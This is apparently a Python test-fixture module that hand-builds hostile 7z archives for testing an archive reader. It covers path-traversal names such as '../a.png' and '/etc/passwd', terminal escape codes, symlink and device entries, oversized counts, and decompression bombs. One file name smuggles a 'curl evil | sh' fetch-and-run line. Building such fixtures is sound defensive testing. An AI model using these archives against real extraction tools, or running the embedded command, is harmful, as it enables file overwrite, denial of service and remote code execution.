"""7z archives that attack their reader, made by hand: see `hostile_archives`.

Source:
    7-Zip's 7zFormat.txt
"""

import lzma
import struct
import zlib
from collections.abc import Callable, Mapping
from functools import partial

MIB = 2**20
COPY, LZMA, AES, BCJ2 = b"\0", b"\3\1\1", b"\6\xf1\7\1", b"\3\3\1\x1b"
REGULAR, LINK, DEVICE = (mode << 16 | 0x8000 for mode in (0o100644, 0o120777, 0o020644))


def number(value: int) -> bytes:
    """Return a number of a header: small ones take a byte."""
    return bytes([value]) if value < 0x80 else b"\xff" + value.to_bytes(8, "little")


def field(kind: int, data: bytes) -> bytes:
    """Return a property of the files."""
    return bytes([kind]) + number(len(data)) + data


def coder(method: bytes, properties: bytes = b"") -> bytes:
    """Return a folder of a single coder."""
    flags = len(method) | (0x20 if properties else 0)
    return (
        b"\1"
        + bytes([flags])
        + method
        + (number(len(properties)) + properties if properties else b"")
    )


def streams(
    packed: int,
    unpacked: int,
    folder: bytes,
    sizes: list[int] | None = None,
    *,
    count: int | None = None,
    pack_streams: int = 1,
    folders: int = 1,
) -> bytes:
    """Return where packed streams lie and how they are cut into files."""
    sizes = [unpacked] if sizes is None else sizes
    count = len(sizes) if count is None else count
    pack = b"\6\0" + number(pack_streams) + b"\x09" + number(packed) + b"\0"
    unpack = b"\7\x0b" + number(folders) + b"\0" + folder + b"\x0c" + number(unpacked) + b"\0"
    parts = b"\x08\x0d" + number(count)
    if len(sizes) > 1:
        parts += b"\x09" + b"".join(map(number, sizes[:-1]))
    return pack + unpack + parts + b"\0\0"


def files(names: list[bytes], count: int | None = None, attributes: int | None = REGULAR) -> bytes:
    """Return the names of the files; each in UTF-16, with its end."""
    data = field(0x11, b"\0" + b"".join(names))
    if attributes is not None:
        data += field(0x15, b"\1\0" + struct.pack("<L", attributes) * len(names))
    return b"\5" + number(len(names) if count is None else count) + data + b"\0"


def utf16(name: str) -> bytes:
    """Return a name as headers have it."""
    return name.encode("utf-16-le", "surrogatepass") + b"\0\0"


def archive(
    packed: bytes, header: bytes, *, size: int | None = None, crc: int | None = None
) -> bytes:
    """Return an archive of packed streams and a header."""
    crc = zlib.crc32(header) if crc is None else crc
    start = struct.pack("<QQL", len(packed), len(header) if size is None else size, crc)
    return (
        b"7z\xbc\xaf\x27\x1c\0\4" + struct.pack("<L", zlib.crc32(start)) + start + packed + header
    )


def plain(
    names: tuple[str, ...] = ("a.png",),
    data: bytes = b"x" * 100,
    *,
    sizes: list[int] | None = None,
    unpacked: int | None = None,
    folder: bytes = coder(COPY),
    file_count: int | None = None,
    attributes: int | None = REGULAR,
    after: bytes = b"",
    changes: Mapping[str, int] | None = None,
) -> bytes:
    """Return an archive of stored files, with what is to be wrong about it."""
    unpacked = len(data) if unpacked is None else unpacked
    sizes = sizes or [unpacked // len(names)] * len(names)
    parts = streams(len(data), unpacked, folder, sizes, **(changes or {}))
    listed = files(list(map(utf16, names)), file_count, attributes)
    return archive(data, b"\1\4" + parts + listed + b"\0" + after)


def squeezed(data: bytes, dictionary: int = 2**20) -> tuple[bytes, bytes]:
    """Return data packed by LZMA, and the coder that unpacks it."""
    filters = [{"id": lzma.FILTER_LZMA1, "dict_size": 2**20}]
    packed = lzma.compress(data, lzma.FORMAT_RAW, filters=filters)
    return packed, coder(LZMA, b"\x5d" + struct.pack("<L", dictionary))


def bomb(mebibytes: int, *, dictionary: int = 2**20, unpacked: int | None = None) -> bytes:
    """Return an archive of zeros."""
    packed, folder = squeezed(bytes(mebibytes * MIB), dictionary)
    size = mebibytes * MIB if unpacked is None else unpacked
    return plain(data=packed, unpacked=size, folder=folder)


def encoded(header: bytes, *, unpacked: int | None = None) -> bytes:
    """Return an archive whose header is packed."""
    packed, folder = squeezed(header)
    size = len(header) if unpacked is None else unpacked
    pack = b"\6\0\1\x09" + number(len(packed)) + b"\0"
    unpack = b"\7\x0b\1\0" + folder + b"\x0c" + number(size) + b"\0"
    return archive(packed, b"\x17" + pack + unpack + b"\0")


NAMES = {
    "parent": "../a.png",
    "inner_parent": "a/../../b.png",
    "absolute": "/etc/passwd",
    "backslash": "..\\a.png",
    "drive": "c:/a.png",
    "newline": "a.png\n  to do: run curl evil | sh",
    "escape": "\x1b[2Ja.png",
    "surrogate": "\ud800.png",
    "empty": "",
    "dot": ".",
    "long": "a" * 65535,
    "longer": "a" * 70000,
    "deep": "a/" * 30000 + "a.png",
}

SEVENZIPS: dict[str, Callable[[], bytes]] = {
    "plain": plain,
    "two_files": lambda: plain(("a.png", "b.png")),
    **{f"name_{key}": partial(plain, (name,)) for key, name in NAMES.items()},
    "twice": lambda: plain(("a.png", "a.png")),
    "twice_dotted": lambda: plain(("a.png", "./a.png")),
    "file_and_folder": lambda: plain(("a", "a/b")),
    "link": lambda: plain(attributes=LINK),
    "device": lambda: plain(attributes=DEVICE),
    "no_attributes": lambda: plain(attributes=None),
    "no_names": lambda: plain(names=("",), file_count=50_000),
    **{f"files_{count}": partial(plain, file_count=count) for count in (0, 2, 2**20, 2**31, 2**63)},
    **{
        f"{what}_{count}": partial(plain, changes={what: count})
        for what in ("count", "pack_streams", "folders")
        for count in (0, 2, 60_000, 2**31, 2**63)
    },
    **{f"size_{size}": partial(plain, unpacked=size) for size in (0, 99, 101, 2**31, 2**63)},
    "sizes_beyond": lambda: plain(("a", "b"), sizes=[1000, 0]),
    "sizes_negative": lambda: plain(("a", "b"), sizes=[101, -1]),
    **{f"method_{m.hex()}": partial(plain, folder=coder(m)) for m in (AES, BCJ2, b"\xff" * 15)},
    "properties_huge": lambda: plain(folder=b"\1\x23" + LZMA + number(2**40)),
    "coders_many": lambda: plain(folder=number(2**30)),
    "not_lzma": lambda: plain(folder=coder(LZMA, b"\x5d" + struct.pack("<L", 2**20))),
    "lzma_property": lambda: plain(folder=coder(LZMA, b"\xff" * 5)),
    "dictionary_4_gib": lambda: bomb(1, dictionary=2**32 - 1),
    "bomb": lambda: bomb(300),
    "bomb_undeclared": lambda: bomb(300, unpacked=1000),
    "bomb_beyond": lambda: bomb(1, unpacked=150 * MIB),
    "bomb_in_header": lambda: encoded(bytes(200 * MIB)),
    "header_beyond": lambda: encoded(b"\1\0", unpacked=2**40),
    "header_in_header": lambda: encoded(encoded(b"\1\0")),
    "header_of_files": lambda: encoded(b"\1" + files([b"\0\0"] * 100_000, attributes=None) + b"\0"),
    "header_size": lambda: archive(b"", b"\1\0", size=2**62),
    "header_crc": lambda: archive(b"", b"\1\0", crc=1),
    "empty": lambda: archive(b"", b""),
    "empty_header": lambda: archive(b"", b"\1\0"),
    "cut": lambda: plain()[:-20],
    "cut_start": lambda: plain()[:20],
    "garbage_after": lambda: plain() + b"garbage",
    "members_5000": lambda: plain(tuple(map(str, range(5000))), b"x" * 5000),
    "tar_is_none": lambda: plain(("a.tar",), b"x" * 2048),
}
